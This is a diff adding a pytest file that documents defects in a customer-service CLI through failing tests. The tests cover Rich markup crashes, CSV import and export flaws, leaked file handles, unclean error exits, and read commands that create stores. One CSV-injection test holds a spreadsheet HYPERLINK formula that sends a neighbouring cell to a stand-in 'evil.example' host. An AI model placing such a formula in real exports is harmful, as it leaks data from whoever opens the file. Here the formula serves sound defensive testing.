@@ -1,0 +1,316 @@
+"""Review of the operator commands (issue 22): defects found, each proven by a failing test.
+
+Each test runs ``aftersales`` the way an operator does (in-process through Typer's
+runner, stdin and stdout as a pipe) on a SQLite file of its own, or on the PostgreSQL
+server in a database of its own (``rv_cli_pg``).
+"""
+
+from __future__ import annotations
+
+import csv
+import gc
+import io
+import json
+import os
+import warnings
+from datetime import datetime, timezone
+from pathlib import Path
+
+import attrs
+import pytest
+from typer.testing import CliRunner
+
+from aftersales import Desk, FrozenClock, Notification
+
+T0 = datetime(2026, 3, 2, 9, 0, tzinfo=timezone.utc)
+
+POSTGRES = ("AFTERSALES_TEST_POSTGRES_URL", "postgresql+psycopg://postgres@127.0.0.1:5432/test")
+REVIEW_DATABASE = "rv_cli_pg"
+
+FACTS = {
+    "jurisdiction": "cn",
+    "product": {"category": "apparel"},
+    "order": {
+        "purchased_at": "2024-03-01T10:00:00+08:00",
+        "delivered_at": "2024-03-03T15:00:00+08:00",
+        "unit_price": {"amount": "199.00", "currency": "CNY"},
+    },
+    "claim": {"at": "2024-03-10T23:59:00+08:00", "kind": "no_reason_return"},
+}
+
+
+@attrs.frozen
+class Ran:
+    """What one command printed and how it exited."""
+
+    code: int
+    out: str
+    err: str
+    crashed: BaseException | None
+
+
+def run(*arguments: str, stdin: str | bytes | None = None) -> Ran:
+    """Run ``aftersales ARGUMENTS`` in-process; an exception that escaped the command
+    (a traceback for the operator) is kept in ``crashed``."""
+    from aftersales.cli import _build_app
+
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setenv("COLUMNS", "250")
+        result = CliRunner().invoke(_build_app(), list(arguments), input=stdin)
+    crashed = None if isinstance(result.exception, SystemExit) else result.exception
+    return Ran(result.exit_code, result.stdout, result.stderr, crashed)
+
+
+def _desk_with(db: Path, subject: str, **fields: str) -> str:
+    """A SQLite desk holding one ticket of ``subject``; its id."""
+    with Desk.sqlite(db, clock=FrozenClock(T0)) as desk:
+        return desk.open_ticket(customer="c-1", channel="email", subject=subject, **fields).id
+
+
+# ------------------------------------------------------------- Rich markup in stored text
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="tables pass stored text to Rich as markup: a subject with '[/b]' crashes "
+    "'tickets list' with a MarkupError traceback",
+)
+def test_a_subject_with_square_brackets_is_listed_as_written(tmp_path: Path) -> None:
+    db = tmp_path / "desk.db"
+    _desk_with(db, "Order [/b] broken")
+    ran = run("tickets", "list", "--db", str(db))
+    assert (ran.code, ran.crashed) == (0, None)
+    assert "Order [/b] broken" in ran.out
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="tables pass stored text to Rich as markup: '[bold]...[/bold]' in a subject "
+    "is swallowed by 'tickets show', the operator sees other text than stored",
+)
+def test_tickets_show_prints_a_subject_with_markup_as_stored(tmp_path: Path) -> None:
+    db = tmp_path / "desk.db"
+    _desk_with(db, "[bold]Refund[/bold] not received")
+    ran = run("tickets", "show", "1", "--db", str(db))
+    assert ran.code == 0
+    assert "[bold]Refund[/bold] not received" in ran.out
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="a dead letter whose last_error holds '[/api]' (a URL in an HTTP error) "
+    "crashes 'dead-letters' and 'outbox' with a Rich MarkupError traceback",
+)
+@pytest.mark.parametrize("command", [["dead-letters"], ["outbox"]])
+def test_dead_letters_with_brackets_in_their_error_are_listed(
+    tmp_path: Path, command: list[str]
+) -> None:
+    db = tmp_path / "desk.db"
+
+    def webhook(notification: Notification) -> None:
+        raise RuntimeError("POST https://hooks.example/[/api]/v1 returned 500")
+
+    with Desk.sqlite(db, clock=FrozenClock(T0), settings={"max_delivery_attempts": 1}) as desk:
+        desk.on_transition(webhook, name="webhook")
+        desk.open_ticket(customer="c-1", channel="email", subject="Kettle leaks")
+        assert len(desk.outbox("dead")) == 1
+    ran = run(*command, "--db", str(db))
+    assert (ran.code, ran.crashed) == (0, None)
+    assert "[/api]" in ran.out
+
+
+# ------------------------------------------------------------------------ import / export
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="'import -' wraps stdin with universal newlines: a CSV field's \\r and \\r\\n "
+    "become \\n, so 'export --format csv | import - --format csv' changes descriptions",
+)
+def test_a_csv_piped_through_standard_input_keeps_carriage_returns(tmp_path: Path) -> None:
+    source, target = tmp_path / "source.db", tmp_path / "target.db"
+    description = "line one\r\nline two\rline three"
+    _desk_with(source, "Kettle leaks", description=description)
+    exported = run("export", "--db", str(source), "--format", "csv")
+    assert exported.code == 0
+    Desk.sqlite(target).close()
+    imported = run("import", "-", "--db", str(target), "--format", "csv", stdin=exported.out)
+    assert imported.code == 0, imported.err
+    with Desk.sqlite(target) as desk:
+        assert desk.get(1).description == description
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="a CSV saved by Excel ('CSV UTF-8') starts with a BOM: import refuses it as "
+    "'unknown columns \\ufeffchannel'",
+)
+def test_a_csv_with_a_utf8_byte_order_mark_imports(tmp_path: Path) -> None:
+    db, legacy = tmp_path / "desk.db", tmp_path / "legacy.csv"
+    Desk.sqlite(db).close()
+    legacy.write_bytes(
+        "\ufeffchannel,subject,customer_id,status,created_at,updated_at\r\n"
+        "email,Kettle leaks,c-1,new,2026-03-02T09:00:00Z,2026-03-02T09:00:00Z\r\n".encode()
+    )
+    ran = run("import", str(legacy), "--db", str(db))
+    assert ran.code == 0, ran.err
+    with Desk.sqlite(db) as desk:
+        assert desk.get(1).subject == "Kettle leaks"
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="CSV export writes customer text starting with = + - @ as is: a subject "
+    "becomes a live formula when the operator opens the export in Excel (CSV injection)",
+)
+def test_a_csv_export_does_not_write_formulas(tmp_path: Path) -> None:
+    db = tmp_path / "desk.db"
+    _desk_with(db, '=HYPERLINK("https://evil.example/?leak="&A2,"click")')
+    ran = run("export", "--db", str(db), "--format", "csv")
+    assert ran.code == 0
+    rows = list(csv.DictReader(io.StringIO(ran.out)))
+    assert not rows[0]["subject"].startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+@pytest.mark.filterwarnings("ignore::ResourceWarning")  # the leak has its own test below
+@pytest.mark.xfail(
+    strict=True,
+    reason="the how-to's 'aftersales import legacy.csv --db new.db' fails ('no SQLite "
+    "file new.db'): the CLI has no way to import into a new store",
+)
+def test_the_documented_import_into_a_new_database_works(tmp_path: Path) -> None:
+    legacy, new = tmp_path / "legacy.csv", tmp_path / "new.db"
+    legacy.write_text(
+        "channel,subject,customer_id,status,created_at,updated_at\n"
+        "email,Kettle leaks,c-1,new,2026-03-02T09:00:00Z,2026-03-02T09:00:00Z\n",
+        encoding="utf-8",
+    )
+    ran = run("import", str(legacy), "--db", str(new))
+    gc.collect()
+    assert ran.code == 0, ran.err
+    with Desk.sqlite(new) as desk:
+        assert desk.get(1).subject == "Kettle leaks"
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="'import' opens FILE before the store and never closes it when --db cannot "
+    "be opened: a leaked file handle (ResourceWarning)",
+)
+def test_an_import_refused_for_its_store_closes_the_file(tmp_path: Path) -> None:
+    legacy = tmp_path / "legacy.jsonl"
+    legacy.write_text("", encoding="utf-8")
+    with warnings.catch_warnings(record=True) as caught:
+        warnings.simplefilter("always")
+        ran = run("import", str(legacy), "--db", str(tmp_path / "missing.db"))
+        gc.collect()
+    assert ran.code == 1
+    assert [w for w in caught if issubclass(w.category, ResourceWarning)] == []
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="a number one line gives that the importer also assigns to an earlier line "
+    "without one is refused as '#1 is already taken', naming no line (documented: named)",
+)
+def test_a_number_clash_with_an_assigned_number_names_its_line(tmp_path: Path) -> None:
+    db, legacy = tmp_path / "desk.db", tmp_path / "legacy.jsonl"
+    Desk.sqlite(db).close()
+    base = {
+        "channel": "email",
+        "customer_id": "c-1",
+        "status": "new",
+        "created_at": "2026-03-02T09:00:00Z",
+        "updated_at": "2026-03-02T09:00:00Z",
+    }
+    lines = [{**base, "subject": "no number"}, {**base, "subject": "number 1", "number": 1}]
+    legacy.write_text("".join(json.dumps(line) + "\n" for line in lines), encoding="utf-8")
+    ran = run("import", str(legacy), "--db", str(db))
+    assert ran.code == 1
+    assert "line 2" in ran.err
+    with Desk.sqlite(db) as desk:
+        assert desk.find() == []
+
+
+# ------------------------------------------------------------------ clean errors, no traces
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="'policy check' on a facts file that is not UTF-8 (PowerShell '>' writes "
+    "UTF-16) crashes with a UnicodeDecodeError traceback instead of exit 1",
+)
+def test_a_facts_file_that_is_not_utf8_is_a_clean_error(tmp_path: Path) -> None:
+    facts = tmp_path / "facts.json"
+    facts.write_bytes(json.dumps(FACTS).encode("utf-16"))
+    ran = run("policy", "check", str(facts))
+    assert ran.crashed is None
+    assert ran.code == 1
+    assert ran.err.startswith("error:")
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="--db mysql://... (the usual MySQL URL, driver mysqlclient not installed) "
+    "crashes with a ModuleNotFoundError traceback instead of an error line",
+)
+def test_a_url_whose_driver_is_missing_is_a_clean_error() -> None:
+    ran = run("tickets", "list", "--db", "mysql://app@127.0.0.1:1/service", "--json")
+    assert ran.crashed is None
+    assert ran.code == 1
+    assert ran.err.startswith("error:")
+
+
+# ------------------------------------------------------- read commands create nothing
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="a read command on an SQLAlchemy sqlite URL (sqlite+pysqlite:///x.db) of a "
+    "file that does not exist silently creates it with a store's schema",
+)
+def test_a_read_command_does_not_create_a_sqlite_file_given_as_a_url(tmp_path: Path) -> None:
+    ghost = tmp_path / "ghost.db"
+    ran = run("tickets", "list", "--db", f"sqlite+pysqlite:///{ghost}", "--json")
+    assert not ghost.exists()
+    assert ran.code == 1
+
+
+def _recreate_review_database(*, create: bool) -> str:
+    """The URL of database ``rv_cli_pg``, dropped and (``create``) made again, empty;
+    skips (fails in CI) without a server."""
+    sqlalchemy = pytest.importorskip("sqlalchemy")
+    variable, default = POSTGRES
+    url = sqlalchemy.make_url(os.environ.get(variable, default))
+    try:
+        engine = sqlalchemy.create_engine(url, isolation_level="AUTOCOMMIT")
+        with engine.connect() as conn:
+            conn.execute(sqlalchemy.text(f"DROP DATABASE IF EXISTS {REVIEW_DATABASE}"))
+            if create:
+                conn.execute(sqlalchemy.text(f"CREATE DATABASE {REVIEW_DATABASE}"))
+        engine.dispose()
+    except Exception as error:  # noqa: BLE001 - any failure to connect means "no server"
+        message = f"no postgresql server at {url!r} ({type(error).__name__}); set {variable}"
+        if os.environ.get("CI"):
+            pytest.fail(message)
+        pytest.skip(message)
+    return url.set(database=REVIEW_DATABASE).render_as_string(hide_password=False)
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="a read command on a server database that holds no store (a wrong database "
+    "name in --db) creates every aftersales table there and reports an empty desk",
+)
+def test_a_read_command_does_not_create_tables_in_a_database_without_a_store() -> None:
+    sqlalchemy = pytest.importorskip("sqlalchemy")
+    url = _recreate_review_database(create=True)
+    ran = run("tickets", "list", "--db", url, "--json")
+    engine = sqlalchemy.create_engine(url)
+    try:
+        tables = sqlalchemy.inspect(engine).get_table_names()
+    finally:
+        engine.dispose()
+        _recreate_review_database(create=False)
+    assert tables == []
+    assert ran.code == 1
